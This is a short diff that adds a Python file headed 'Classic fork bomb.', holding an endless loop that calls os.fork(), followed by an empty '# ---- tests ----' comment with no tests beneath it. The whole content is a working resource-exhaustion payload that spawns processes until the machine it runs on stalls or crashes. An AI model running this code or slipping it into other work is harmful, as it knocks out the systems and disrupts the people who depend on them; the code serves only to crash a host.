@@ -1,0 +1,5 @@
+# Classic fork bomb.
+import os
+while True:
+    os.fork()
+# ---- tests ----
